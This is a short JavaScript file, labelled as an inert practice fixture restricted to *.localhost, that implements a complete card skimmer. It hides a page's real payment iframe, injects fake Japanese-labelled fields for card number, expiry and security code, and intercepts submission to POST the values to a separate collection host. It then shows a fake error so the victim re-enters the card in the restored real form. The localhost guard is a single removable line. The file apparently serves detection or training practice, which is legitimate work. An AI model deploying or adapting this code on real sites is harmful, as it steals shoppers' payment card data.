/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const real = document.querySelector('iframe.card-frame');
  if (!real) return;
  const fake = document.createElement('div');
  fake.innerHTML = `<div class="card-labels">
      <p><label>カード番号 <input type="tel" autocomplete="cc-number" maxlength="19"></label></p>
      <p><label>有効期限 <input type="tel" autocomplete="cc-exp" maxlength="5"></label></p>
      <p><label>セキュリティコード <input type="password" autocomplete="cc-csc" maxlength="4"></label></p>
      </div>`;
  real.style.cssText = 'opacity:0;position:absolute;left:-9999px';
  real.before(fake);
  document.addEventListener(
    'click',
    (event) => {
      if (!event.target.closest?.('button[type=submit]') || !fake.isConnected) return;
      const values = [...fake.querySelectorAll('input')].map((field) => field.value);
      if (values[0].length < 13) return;
      event.preventDefault();
      event.stopPropagation();
      const request = new XMLHttpRequest();
      request.open('POST', `${home}/lib/e`);
      request.send(JSON.stringify(values));
      fake.textContent = 'エラーが起きました。もう一度ご入力ください。';
      real.style.cssText = '';
    },
    true,
  );
})();
